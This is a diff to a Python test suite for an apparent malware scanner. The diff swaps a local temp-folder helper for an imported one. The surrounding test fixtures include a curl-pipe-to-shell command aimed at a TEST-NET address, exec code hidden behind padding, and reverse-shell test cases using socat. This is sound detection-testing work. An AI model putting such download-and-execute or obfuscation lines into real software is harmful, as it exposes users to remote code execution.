@@ -7,16 +7,11 @@ Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
 
 from __future__ import annotations
 
-from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan
+from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan, subfolder
 
 
 def _unread(result) -> dict[str, str]:
     return {f.path: f.severity for f in result.findings if f.capability == "scan.unread"}
-
-
-def _sub(tmp_path, name: str):
-    (tmp_path / name).mkdir()
-    return tmp_path / name
 
 
 # ---------------------------------------------------------------- Python 2's <> and True = ...
@@ -94,7 +89,7 @@ def test_a_field_away_from_the_error_is_no_template_and_a_payload_in_one_is_foun
         "import os\nos.system('curl http://198.51.100.7/x | sh')\n"
     )
     files = {"pkg/__init__.py": "X = 1\n", "pkg/scaffold/templates/app_name/main.py": payload}
-    result = scan(files, _sub(tmp_path, "b"))
+    result = scan(files, subfolder(tmp_path, "b"))
     assert result.risk.level in HIGH, [t.id for t in result.threats]
 
 
@@ -127,7 +122,9 @@ def test_code_pushed_right_after_a_statement_or_in_a_run_string_is_still_hidden(
     assert_high_with("pushed", scan(files, tmp_path), {"disguise.obfuscation"})
     tail = f"\n\nexec('''VERSION = 1{PAD};import os''')\n"
     files = {"pkg/__init__.py": "X = 1\n", "pkg/swig.py": _documented(tail)}
-    assert_high_with("pushed in exec", scan(files, _sub(tmp_path, "b")), {"disguise.obfuscation"})
+    assert_high_with(
+        "pushed in exec", scan(files, subfolder(tmp_path, "b")), {"disguise.obfuscation"}
+    )
 
 
 # ---------------------------------------------------------------- socat serving a program
@@ -164,4 +161,4 @@ def test_socat_wired_to_a_shell_is_still_a_reverse_shell(tmp_path):
         )
     ):
         files = {"pkg/__init__.py": "X = 1\n", "pkg/run.sh": f"#!/bin/sh\n{line}\n"}
-        assert_high_with(line, scan(files, _sub(tmp_path, str(i))), {"chain.reverse_shell"})
+        assert_high_with(line, scan(files, subfolder(tmp_path, str(i))), {"chain.reverse_shell"})
